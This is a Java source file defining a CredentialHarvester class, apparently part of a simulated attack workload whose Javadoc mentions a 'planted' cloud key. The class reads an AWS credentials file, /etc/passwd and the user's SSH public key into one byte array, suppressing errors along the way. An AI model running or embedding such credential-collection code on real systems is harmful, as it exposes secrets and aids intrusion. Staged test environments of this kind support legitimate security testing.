package io.augur.deploy.workload.shop;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Reads what credentials it finds: the planted cloud key in the data folder, {@code /etc/passwd}.
 */
public final class CredentialHarvester {
    static final long MAX_FILE_BYTES = 64 * 1024;

    public byte[] harvest(Path dataDir) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (Path p :
                new Path[] {
                    dataDir.resolve(".aws").resolve("credentials"),
                    Path.of("/etc/passwd"),
                    Path.of(System.getProperty("user.home"), ".ssh", "id_rsa.pub")
                }) {
            out.writeBytes(readFile(p));
        }
        return out.toByteArray();
    }

    private byte[] readFile(Path p) {
        try {
            if (!Files.isRegularFile(p) || Files.size(p) > MAX_FILE_BYTES) {
                return new byte[0];
            }
            return Files.readAllBytes(p);
        } catch (IOException | SecurityException e) {
            return new byte[0];
        }
    }
}
